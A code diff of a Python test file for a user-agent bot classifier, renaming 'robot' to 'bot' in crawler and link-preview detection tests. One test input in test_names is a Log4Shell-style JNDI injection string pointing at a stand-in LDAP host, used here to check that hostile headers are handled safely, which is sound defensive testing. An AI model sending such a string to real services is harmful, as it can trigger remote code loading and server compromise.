@@ -1,4 +1,4 @@
-"""Who says that he is a robot, and who does not."""
+"""Who says that he is a bot, and who does not."""
 
 import json
 from importlib.util import find_spec
@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bench.agents import Agent
-from waypost.resources.clicks.intake.robots import NOT_ROBOTS, STRICTER, Robot, listed_patterns, robot_of, used_patterns
+from waypost.resources.clicks.intake.bots import NOT_BOTS, STRICTER, Bot, bot_of, listed_patterns, used_patterns
 
 CLIENTS = {
     *("[wW]get", "Python-urllib", "python-requests", "aiohttp", "httpx", "libwww-perl", "httpunit", "Go-http-client"),
@@ -36,21 +36,21 @@ def entries() -> list[dict[str, Any]]:
 
 def test_it_works() -> None:
     googlebot = b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
-    assert robot_of(googlebot) == Robot("Googlebot", "crawler")
-    assert robot_of(b"facebookexternalhit/1.1") == Robot("facebookexternalhit", "preview")
-    assert robot_of(b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0") is None
+    assert bot_of(googlebot) == Bot("Googlebot", "crawler")
+    assert bot_of(b"facebookexternalhit/1.1") == Bot("facebookexternalhit", "preview")
+    assert bot_of(b"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0") is None
 
 
 def test_the_mix(mix: list[Agent]) -> None:
     """Two thousand, of which six in seven are people."""
-    told = {agent.raw: robot_of(agent.raw) for agent in mix}
-    expected = {agent.raw: Robot(agent.bot, agent.kind) if agent.bot else None for agent in mix}
+    told = {agent.raw: bot_of(agent.raw) for agent in mix}
+    expected = {agent.raw: Bot(agent.bot, agent.kind) if agent.bot else None for agent in mix}
     assert {raw: (told[raw], expected[raw]) for raw in told if told[raw] != expected[raw]} == {}
 
 
 def test_every_example_of_the_package() -> None:
-    used = [entry for entry in entries() if entry["pattern"] not in NOT_ROBOTS]
-    missed = [text for entry in used for text in entry["instances"] if not robot_of(text.encode())]
+    used = [entry for entry in entries() if entry["pattern"] not in NOT_BOTS]
+    missed = [text for entry in used for text in entry["instances"] if not bot_of(text.encode())]
     assert missed == []
     assert len(used) > 1_400
 
@@ -58,11 +58,11 @@ def test_every_example_of_the_package() -> None:
 def test_what_is_left_out_of_the_package() -> None:
     """An update that takes in another HTTP client, or takes one out, shows here."""
     listed = dict(listed_patterns())
-    assert NOT_ROBOTS | set(STRICTER) <= set(listed)
+    assert NOT_BOTS | set(STRICTER) <= set(listed)
     assert {pattern for pattern, tags in listed.items() if "http-library" in tags} == CLIENTS | SCRAPERS
-    assert CLIENTS <= NOT_ROBOTS
-    assert not SCRAPERS & NOT_ROBOTS
-    assert len(list(used_patterns())) == len(listed_patterns()) - len(NOT_ROBOTS)
+    assert CLIENTS <= NOT_BOTS
+    assert not SCRAPERS & NOT_BOTS
+    assert len(list(used_patterns())) == len(listed_patterns()) - len(NOT_BOTS)
 
 
 @pytest.mark.parametrize(
@@ -90,7 +90,7 @@ def test_what_is_left_out_of_the_package() -> None:
     ],
 )
 def test_people_and_their_programs(user_agent: str) -> None:
-    assert robot_of(user_agent.encode()) is None
+    assert bot_of(user_agent.encode()) is None
 
 
 @pytest.mark.parametrize("pattern", STRICTER)
@@ -100,56 +100,56 @@ def test_words_that_people_have_too(pattern: str) -> None:
     app = f" {word}8.1" if word.endswith("/") else ""
     phone = word.rstrip("/")
     text = f"Mozilla/5.0 (Linux; Android 9; {phone} 5) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36{app}"
-    assert robot_of(text.encode()) is None
+    assert bot_of(text.encode()) is None
 
 
 @pytest.mark.parametrize(
     ("user_agent", "robot"),
     [
-        (b"WhatsApp", Robot("WhatsApp", "preview")),
-        (b"Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)", Robot("Valve/Steam", "preview")),
-        (b"Misskey/2024.5.0 (https://misskey.example)", Robot("Misskey", "preview")),
-        (b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com)", Robot("Yahoo! Slurp", "crawler")),
-        (b"MyOwnCrawler/1.0 (+https://me.example)", Robot("MyOwnCrawler", "crawler")),
-        (b"Mozilla/5.0 (compatible; MyOwnBot; +https://me.example)", Robot("MyOwnBot", "crawler")),
-        (b"Mozilla/5.0 (compatible;MyOwnBot; en)", Robot("MyOwnBot", "crawler")),
-        (b"Mozilla/5.0 (MyOwnSpider; me@me.example)", Robot("MyOwnSpider", "crawler")),
-        (b"Mozilla/5.0 (X11; MyOwnBot; https://me.example)", Robot("MyOwnBot", "crawler")),
-        (b"MyOwnBot", Robot("MyOwnBot", "crawler")),
-        (b"pulsepoint Pulsepoint x", Robot("Pulsepoint", "crawler")),
-        (b"AcmeReport/2.1 (ops@acme.example)", Robot("AcmeReport", "crawler")),
-        (b"Acme Status 2.0", Robot("Acme Status 2.0", "crawler")),
-        (b"Mozilla/5.0 (compatible; AcmeReport/1.0) AppleWebKit/537.36 Chrome/124.0", Robot("AcmeReport", "crawler")),
+        (b"WhatsApp", Bot("WhatsApp", "preview")),
+        (b"Valve/Steam HTTP Client 1.0 (SteamChatURLLookup)", Bot("Valve/Steam", "preview")),
+        (b"Misskey/2024.5.0 (https://misskey.example)", Bot("Misskey", "preview")),
+        (b"Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com)", Bot("Yahoo! Slurp", "crawler")),
+        (b"MyOwnCrawler/1.0 (+https://me.example)", Bot("MyOwnCrawler", "crawler")),
+        (b"Mozilla/5.0 (compatible; MyOwnBot; +https://me.example)", Bot("MyOwnBot", "crawler")),
+        (b"Mozilla/5.0 (compatible;MyOwnBot; en)", Bot("MyOwnBot", "crawler")),
+        (b"Mozilla/5.0 (MyOwnSpider; me@me.example)", Bot("MyOwnSpider", "crawler")),
+        (b"Mozilla/5.0 (X11; MyOwnBot; https://me.example)", Bot("MyOwnBot", "crawler")),
+        (b"MyOwnBot", Bot("MyOwnBot", "crawler")),
+        (b"pulsepoint Pulsepoint x", Bot("Pulsepoint", "crawler")),
+        (b"AcmeReport/2.1 (ops@acme.example)", Bot("AcmeReport", "crawler")),
+        (b"Acme Status 2.0", Bot("Acme Status 2.0", "crawler")),
+        (b"Mozilla/5.0 (compatible; AcmeReport/1.0) AppleWebKit/537.36 Chrome/124.0", Bot("AcmeReport", "crawler")),
         (
             b"Mozilla/5.0 (X11) AppleWebKit/537.36 Chrome/120 (+https://acme.example/x)",
-            Robot("acme.example", "crawler"),
+            Bot("acme.example", "crawler"),
         ),
-        (b"Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/142.0 AcmeChecker", Robot("AcmeChecker", "crawler")),
+        (b"Mozilla/5.0 (Windows NT 10.0) Gecko/20100101 Firefox/142.0 AcmeChecker", Bot("AcmeChecker", "crawler")),
         (
             b"Mozilla/5.0 (Macintosh) AppleWebKit/537.36 (KHTML, like Gecko; Acme Status) Safari/9",
-            Robot("Acme Status", "crawler"),
+            Bot("Acme Status", "crawler"),
         ),
-        (b"Mozilla/5.0 AcmeStatus", Robot("AcmeStatus", "crawler")),
-        (b"${jndi:ldap://acme.example/x}", Robot("Robot", "crawler")),
+        (b"Mozilla/5.0 AcmeStatus", Bot("AcmeStatus", "crawler")),
+        (b"${jndi:ldap://acme.example/x}", Bot("Robot", "crawler")),
     ],
 )
-def test_names(user_agent: bytes, robot: Robot) -> None:
-    assert robot_of(user_agent) == robot
+def test_names(user_agent: bytes, bot: Bot) -> None:
+    assert bot_of(user_agent) == bot
 
 
 @given(st.binary(max_size=9_000))
 def test_any_bytes(user_agent: bytes) -> None:
-    robot = robot_of(user_agent)
-    assert robot is None or (robot.kind in {"crawler", "preview"} and robot.name.isprintable())
+    bot = bot_of(user_agent)
+    assert bot is None or (bot.kind in {"crawler", "preview"} and bot.name.isprintable())
 
 
 def test_a_name_is_bounded() -> None:
-    robot = robot_of(b"Current \0\x01" + b"x" * 300 + b" RSS Reader")
-    assert robot
-    assert robot.name.isprintable()
-    assert 0 < len(robot.name) <= 100
+    bot = bot_of(b"Current \0\x01" + b"x" * 300 + b" RSS Reader")
+    assert bot
+    assert bot.name.isprintable()
+    assert 0 < len(bot.name) <= 100
 
 
-def test_a_robot_names_itself_soon() -> None:
+def test_a_bot_names_itself_soon() -> None:
     """What comes after half a kilobyte is not looked at, so eight cost no more."""
-    assert robot_of(b"x" * 8_000 + b" Googlebot/2.1") is None
+    assert bot_of(b"x" * 8_000 + b" Googlebot/2.1") is None
